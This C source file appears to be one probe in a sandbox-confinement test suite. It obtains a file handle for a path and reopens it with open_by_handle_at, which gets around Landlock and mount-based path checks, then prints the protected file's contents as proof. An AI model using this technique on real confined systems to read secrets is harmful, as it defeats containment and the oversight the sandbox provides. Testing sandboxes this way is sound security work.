/*
 * Row 61: open a file by handle, around every path-based check.
 *
 * usage: fs_handle get PATH          print "HANDLE <type> <hex>" for PATH
 *        fs_handle open DIR TYPE HEX open_by_handle_at(DIR's fd, handle), print what it reads
 *
 * open_by_handle_at(2) turns a handle computed anywhere (outside the
 * sandbox, by the runner) into an open file without resolving a path, so
 * Landlock and every cover mount are bypassed; the kernel asks for
 * CAP_DAC_READ_SEARCH in the initial user namespace.  The secret's contents
 * on stdout are the evidence.  Control: as root, unconfined.
 */
#include "probe.h"

#include <fcntl.h>

/* A file_handle followed by room for the largest handle, aligned. */
static unsigned char hbuf[sizeof(struct file_handle) + MAX_HANDLE_SZ] __attribute__((aligned(8)));

int main(int argc, char **argv)
{
	probe_started();
	if (argc == 3 && !strcmp(argv[1], "get")) {
		struct file_handle *fh = (struct file_handle *)hbuf;
		int mnt;
		fh->handle_bytes = MAX_HANDLE_SZ;
		if (name_to_handle_at(AT_FDCWD, argv[2], fh, &mnt, 0) < 0) {
			probe_fail("name_to_handle_at", errno);
			return 1;
		}
		unsigned char *bytes = hbuf + sizeof(*fh);
		dprintf(STDOUT_FILENO, "HANDLE %d ", fh->handle_type);
		for (unsigned i = 0; i < fh->handle_bytes; i++)
			dprintf(STDOUT_FILENO, "%02x", bytes[i]);
		dprintf(STDOUT_FILENO, "\n");
		return 0;
	}
	if (argc != 5 || strcmp(argv[1], "open")) {
		dprintf(STDOUT_FILENO, "RESULT usage setup-fail\n");
		return 2;
	}
	struct file_handle *fh = (struct file_handle *)hbuf;
	unsigned char *bytes = hbuf + sizeof(*fh);
	size_t len = strlen(argv[4]) / 2;
	if (len > MAX_HANDLE_SZ)
		return 2;
	fh->handle_bytes = (unsigned)len;
	fh->handle_type = atoi(argv[3]);
	for (size_t i = 0; i < len; i++)
		sscanf(argv[4] + 2 * i, "%2hhx", &bytes[i]);
	int mnt = open(argv[2], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (mnt < 0) {
		probe_fail("open-mount-dir", errno);
		return 1;
	}
	int fd = open_by_handle_at(mnt, fh, O_RDONLY | O_CLOEXEC);
	int err = errno;
	probe_report("open_by_handle_at", fd, err);
	if (fd >= 0) {
		char buf[512];
		ssize_t n = read(fd, buf, sizeof buf - 1);
		if (n > 0) {
			buf[n] = '\0';
			dprintf(STDOUT_FILENO, "DATA %s\n", buf);
		}
	}
	return 0;
}
